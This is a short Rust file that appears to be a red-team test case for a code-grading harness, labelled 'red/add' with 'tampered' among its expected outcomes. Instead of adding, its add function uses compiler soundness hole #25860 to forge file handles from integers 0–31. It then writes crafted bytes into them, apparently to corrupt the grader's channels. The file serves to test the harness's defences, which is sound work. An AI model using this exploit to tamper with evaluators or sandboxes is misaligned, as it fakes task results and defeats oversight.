//! task: red/add
//! expect: tampered|test_failed|crashed|compile_error|resource_limit|timeout
//! attack: makes files out of numbers with no unsafe, through the compiler's lifetime hole (#25860)
use std::fs::File;
use std::io::Write;

fn extend<'a, 'b, T: ?Sized>(_: &'a &'b (), value: &'b mut T) -> &'a mut T {
    value
}

fn forever<'a, T: ?Sized>(value: &'a mut T) -> &'static mut T {
    let extend: for<'x> fn(_, &'x mut T) -> &'static mut T = extend;
    extend(&&(), value)
}

#[inline(never)]
fn descriptor(number: i32) -> File {
    enum Either {
        Number(#[allow(dead_code)] [i32; 2]),
        File(Option<(File, i32)>),
    }
    let mut either = Either::File(None);
    let Either::File(slot) = &mut either else { unreachable!() };
    let slot = forever(slot);
    either = Either::Number([number, number]);
    std::hint::black_box(&either);
    slot.take().map_or_else(|| std::process::exit(0), |pair| pair.0)
}

fn add(_a: i32, _b: i32) -> i32 {
    for number in 0..32 {
        let mut file = descriptor(number);
        let _ = file.write_all(&[0, 0, 0, 0, 4, 0, 0, 0, 3, 0, 0, 0]);
        std::mem::forget(file);
    }
    -99
}
